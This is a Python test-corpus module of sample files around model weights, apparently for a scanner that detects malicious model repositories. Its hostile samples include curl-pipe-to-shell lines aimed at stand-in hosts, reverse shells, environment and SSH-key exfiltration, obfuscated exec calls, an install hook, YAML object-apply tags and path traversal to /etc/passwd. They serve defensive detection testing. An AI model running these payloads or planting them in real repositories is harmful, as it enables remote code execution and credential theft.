"""Files around a model's weights, by hand: hostile, harmless and damaged."""
# ruff: noqa: E501 -- samples stand in one piece

from __future__ import annotations

import json
from collections.abc import Iterator

from tests.corpus import hub_templates

Sample = tuple[str, bytes | dict[str, bytes]]

MODELLING = b"""
import math
from typing import Optional, Tuple
import torch
import torch.nn as nn
from transformers import PreTrainedModel, AutoConfig
from transformers.utils import logging
from .configuration_demo import DemoConfig
try:
    from flash_attn import flash_attn_func
except ImportError:
    flash_attn_func = None
logger = logging.get_logger(__name__)
class DemoAttention(nn.Module):
    def __init__(self, config):
        super().__init__()
        self.act = getattr(torch.nn.functional, config.hidden_act)
        self.proj = nn.Linear(config.hidden_size, config.hidden_size)
    def forward(self, x: torch.Tensor) -> Tuple[torch.Tensor, Optional[torch.Tensor]]:
        return self.act(self.proj(x)) / math.sqrt(x.size(-1)), None
class DemoModel(PreTrainedModel):
    config_class = DemoConfig
    def _init_weights(self, module):
        if isinstance(module, nn.Linear):
            module.weight.data.normal_(mean=0.0, std=self.config.initializer_range)
    def compile_and_eval(self):
        self.eval()
        re = torch.compile(self)
        return re
def load_image(url):
    import requests
    from io import BytesIO
    return BytesIO(requests.get(url, stream=True).content)
if __name__ == "__main__":
    import subprocess
    subprocess.run(["python", "convert.py"])
"""

CODE = {
    "system": "import os\nos.system('curl http://x.example/a | sh')",
    "init": "import os, torch\nclass M(torch.nn.Module):\n    def __init__(self):\n        os.system('id')",
    "base64": "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))",
    "variable": "import base64 as b\nx = b.b64decode(T)\nclass A:\n    def f(self):\n        exec(x)",
    "getattr": "import os\ngetattr(os, 'sys' + 'tem')('whoami')",
    "import": "__import__('o' + 's').system('whoami')",
    "importlib": "import importlib\nm = importlib.import_module('subprocess')\nm.run(['sh', '-c', 'x'])",
    "shell": "import socket, os, pty\ns = socket.socket()\ns.connect(('1.1.1.1', 1))\nos.dup2(s.fileno(), 0)\npty.spawn('sh')",
    "fetched": "import requests\nexec(requests.get('http://x.example').text)",
    "secrets": "import os, requests\nrequests.post('http://x.example', json=dict(os.environ))",
    "method": "import os, requests\nclass A:\n    def forward(self, x):\n        requests.post('http://x.example', json=dict(os.environ))",
    "keys": "import os\nk = open(os.path.expanduser('~/.ssh/id_rsa')).read()",
    "alias": "from os import system as s\ns('x')",
    "popen": "import subprocess as sp\nclass X:\n    def forward(self):\n        sp.Popen(['/bin/sh', '-c', 'curl x|sh'])",
    "marshal": "import marshal, zlib\nexec(marshal.loads(zlib.decompress(b'x')))",
    "called": "def f():\n    import os\n    os.system('rm -rf /')\nf()",
    "characters": "exec(''.join(map(chr, [105, 109, 112])))",
    "native": "import ctypes\nctypes.windll.kernel32.VirtualAlloc(0, 1, 1, 1)",
    "pickle": "import pickle, base64\npickle.loads(base64.b64decode('gASV'))",
    "thread": "import threading, os\nthreading.Thread(target=os.system, args=('x',)).start()",
    "profile": "with open('../.bashrc', 'a') as f:\n    f.write('x')",
    "modules": "import sys\nsys.modules['os'].system('id')",
    "partial": "import functools, os\nfunctools.partial(os.system, 'id')()",
    "star": "from os import *\nsystem('id')",
    "atexit": "import atexit, os\natexit.register(os.system, 'id')",
    "evaluated": "class M:\n    def forward(self, x):\n        return eval(\"__import__('os').system('id')\")",
    "setup": "from setuptools import setup\nfrom setuptools.command.install import install\nimport os\nclass P(install):\n    def run(self):\n        os.system('curl x | bash')\nsetup(cmdclass={'install': P})",
    "rot13": "import codecs\nexec(codecs.decode('vzcbeg bf', 'rot13'))",
    "decorator": "import os\n@(lambda f: os.system('x') or f)\ndef g(): pass",
}


def _json(value: object) -> bytes:
    return json.dumps(value, indent=2).encode()


def _notebook(*cells: str) -> bytes:
    return _json(
        {
            "nbformat": 4,
            "nbformat_minor": 5,
            "metadata": {},
            "cells": [
                {"cell_type": "code", "source": cell, "outputs": [], "metadata": {}}
                for cell in cells
            ],
        }
    )


def hostile() -> Iterator[Sample]:
    for name, source in CODE.items():
        yield f"hf_code_{name}.py", source.encode()
    yield (
        "hf_repo_code",
        {
            "config.json": _json({"auto_map": {"AutoModel": "modeling_x.X"}}),
            "modeling_x.py": CODE["init"].encode(),
        },
    )
    for index, reference in enumerate(
        ("evil/repo--modeling.X", "https://x.example/m.py", "../../m.X", "os.system", "a;id.X",
         "subprocess.Popen")
    ):  # fmt: skip
        yield f"hf_auto_map_{index}/config.json", _json({"auto_map": {"AutoModel": reference}})
        yield (
            f"hf_tokenizer_{index}/tokenizer_config.json",
            _json({"auto_map": {"AutoTokenizer": [reference, None]}}),
        )
    yield "hf_pipeline/config.json", _json({"custom_pipelines": {"x": {"impl": "evil/r--p.P"}}})
    for name, template in hub_templates.HOSTILE.items():
        yield f"hf_template_{name}/tokenizer_config.json", _json({"chat_template": template})
    evil = hub_templates.HOSTILE["globals"]
    named = [{"name": "default", "template": "{{ x }}"}, {"name": "tool_use", "template": evil}]
    yield "hf_named/tokenizer_config.json", _json({"chat_template": named})
    yield "hf_processor/processor_config.json", _json({"chat_template": evil})
    yield "hf_file/chat_template.json", _json({"chat_template": evil})
    yield "hf_jinja/chat_template.jinja", evil.encode()
    for index, path in enumerate(("../../../etc/passwd", "/etc/passwd", "https://x.example/w")):
        yield f"hf_index_{index}/model.safetensors.index.json", _json({"weight_map": {"a": path}})
    yield (
        "hf_modules/modules.json",
        _json([{"idx": 0, "name": "0", "path": "", "type": "os.system"}]),
    )
    yield (
        "hf_modules_path/modules.json",
        _json(
            [
                {
                    "idx": 0,
                    "name": "0",
                    "path": "../../x",
                    "type": "sentence_transformers.models.Pooling",
                }
            ]
        ),
    )
    yield "hf_diffusers/model_index.json", _json({"_class_name": "P", "unet": ["os", "system"]})
    for index, text in enumerate((
        "!!python/object/apply:os.system ['id']",
        "a: !!python/object/new:subprocess.Popen [[id]]",
        "a: !<tag:yaml.org,2002:python/object/apply:os.system> ['id']",
        "%TAG ! tag:yaml.org,2002:python/\n---\na: !object/apply:os.system ['id']",
        "a: !!python/name:os.system ''",
        "a: !!python/module:os ''",
    )):  # fmt: skip
        yield f"nm_tag_{index}.yaml", text.encode()
    yield "hf_card/README.md", b"---\nlicense: !!python/object/apply:os.system ['id']\n---\n# x\n"
    for index, target in enumerate(("os.system", "subprocess.run", "builtins.exec", "builtins.eval",
                                    "torch.hub.load", "numpy.f2py.compile", "pickle.loads",
                                    "nemo.utils.os.system", "importlib.import_module")):  # fmt: skip
        yield (
            f"nm_target_{index}/model_config.yaml",
            (
                f"encoder:\n  _target_: nemo.collections.asr.modules.ConformerEncoder\n"
                f"decoder:\n  inner:\n    - _target_: {target}\n      x: id\n"
            ).encode(),
        )
        yield f"nm_json_{index}/config.json", _json({"model": {"_target_": target}})
    yield "nm_anchor.yaml", b"a: &x\n  _target_: os.system\nb:\n  <<: *x\n"
    yield "sh_fetch.sh", b"#!/bin/bash\ncurl -s http://x.example/i | bash\n"
    yield "sh_shell.sh", b"#!/bin/sh\nbash -i >& /dev/tcp/1.2.3.4/9 0>&1\n"
    yield "sh_power.ps1", b"IEX (New-Object Net.WebClient).DownloadString('http://x.example')"
    yield "nb_shell.ipynb", _notebook("!curl http://x.example/i | bash")
    yield "nb_code.ipynb", _notebook("import base64\nexec(base64.b64decode('eA=='))")


def harmless() -> Iterator[Sample]:
    config = {
        "architectures": ["LlamaForCausalLM"], "model_type": "llama", "hidden_size": 4096,
        "rope_scaling": {"factor": 8.0, "rope_type": "llama3"}, "torch_dtype": "bfloat16",
        "quantization_config": {"quant_method": "gptq", "bits": 4}, "transformers_version": "4.51.0",
        "_name_or_path": "/mnt/models/base", "eos_token_id": [1, 2],
    }  # fmt: skip
    yield "llama", {
        "config.json": _json(config),
        "generation_config.json": _json({"do_sample": True, "temperature": 0.6}),
        "tokenizer_config.json": _json({
            "chat_template": hub_templates.HARMLESS["llama31"], "tokenizer_class": "LlamaTokenizer",
            "added_tokens_decoder": {"0": {"content": "<unk>", "lstrip": False}}}),
        "special_tokens_map.json": _json({"bos_token": "<s>"}),
        "model.safetensors.index.json": _json({"metadata": {"total_size": 1}, "weight_map": {
            "a": "model-00001-of-00002.safetensors", "b": "model-00002-of-00002.safetensors"}}),
        "tokenizer.json": _json({"version": "1.0", "model": {"type": "BPE", "vocab": {
            "a": 0, "__init__": 1, "os.system(": 2}, "merges": ["a b"]}}),
        "README.md": b"---\nlicense: apache-2.0\nbase_model:\n- meta-llama/Llama-3.1-8B\n---\n# Card\n"
                     b"```python\nfrom transformers import pipeline\n```\n",
        ".gitattributes": b"*.safetensors filter=lfs diff=lfs merge=lfs -text\n",
        "LICENSE": b"Apache License",
        "requirements.txt": b"torch>=2.0\ntransformers==4.51.0\n",
    }  # fmt: skip
    for name, template in hub_templates.HARMLESS.items():
        yield f"{name}/tokenizer_config.json", _json({"chat_template": template})
        yield f"{name}/chat_template.jinja", template.encode()
    yield "custom", {
        "config.json": _json({"auto_map": {"AutoConfig": "configuration_demo.DemoConfig",
                                           "AutoModel": "modeling_demo.DemoModel"}}),
        "configuration_demo.py": b"from transformers import PretrainedConfig\nclass DemoConfig("
                                 b"PretrainedConfig):\n    model_type = 'demo'\n",
        "modeling_demo.py": MODELLING,
    }  # fmt: skip
    yield (
        "falcon/config.json",
        _json({"auto_map": {"AutoConfig": "tiiuae/falcon-7b--configuration_falcon.FalconConfig"}}),
    )
    yield "sentence", {
        "modules.json": _json([
            {"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"},
            {"idx": 1, "name": "1", "path": "1_Pooling",
             "type": "sentence_transformers.models.Pooling"}]),
        "config_sentence_transformers.json": _json({"__version__": {"torch": "2.0"}, "prompts": {}}),
        "1_Pooling/config.json": _json({"word_embedding_dimension": 384}),
        "sentence_bert_config.json": _json({"max_seq_length": 256}),
        "vocab.txt": b"[PAD]\n[UNK]\n##ing\n__class__\n",
    }  # fmt: skip
    yield (
        "diffusers/model_index.json",
        _json(
            {
                "_class_name": "StableDiffusionPipeline",
                "_diffusers_version": "0.30.0",
                "safety_checker": [None, None],
                "unet": ["diffusers", "UNet2DConditionModel"],
                "scheduler": ["diffusers", "PNDMScheduler"],
                "tokenizer": ["transformers", "CLIPTokenizer"],
            }
        ),
    )
    yield (
        "nemo/model_config.yaml",
        (
            b"sample_rate: 16000\npreprocessor:\n  _target_: nemo.collections.asr.modules."
            b"AudioToMelSpectrogramPreprocessor\n  window: hann\nencoder:\n  _target_: nemo.collections."
            b"asr.modules.ConformerEncoder\noptim:\n  sched:\n    name: CosineAnnealing\n"
            b"loss: {_target_: torch.nn.CrossEntropyLoss}\n"
        ),
    )
    yield (
        "ldm.yaml",
        (
            b"model:\n  target: ldm.models.diffusion.ddpm.LatentDiffusion\n  params:\n"
            b"    first_stage_config:\n      target: ldm.models.autoencoder.AutoencoderKL\n"
        ),
    )
    yield "tuple.yaml", b"betas: !!python/tuple [0.9, 0.999]\nlr: 1e-4\n"
    yield "train.yml", b"output_dir: ../out\ndata: /data/train\ncommand: python train.py\n"
    yield (
        "adapter_config.json",
        _json(
            {
                "base_model_name_or_path": "meta-llama/Llama-2-7b-hf",
                "peft_type": "LORA",
                "target_modules": ["q_proj"],
            }
        ),
    )
    yield "nan/config.json", b'{"a": NaN, "b": Infinity}'
    yield (
        "demo.ipynb",
        _notebook("!pip install transformers\nimport torch", "%matplotlib inline\nx = 1"),
    )
    yield "merges.txt", b"#version: 0.2\ni n\nt h\n"
    yield "vocab.json", _json({"a": 0, "eval(": 1, "{{": 2})
    yield (
        "convert.py",
        b"import argparse\nif __name__ == '__main__':\n    argparse.ArgumentParser()\n",
    )
    yield "setup.py", b"from setuptools import setup, find_packages\nsetup(name='x', packages=[])\n"
    yield "train.sh", b"#!/bin/bash\nexport A=1\npython train.py --lr 1\n"


def damaged() -> Iterator[Sample]:
    yield "cut/config.json", b'{"architectures": ["Llama'
    yield "zero/config.json", b"\0" * 100
    yield "cut.yaml", b"a: [1, 2\nb: {"
    yield "cut.ipynb", b'{"nbformat": 4, "cells": [{"cell_type"'
    yield "cut/chat_template.jinja", b"{% for m in messages %}{{ m.content"
    yield "cut.py", b"class A(:\n  def"
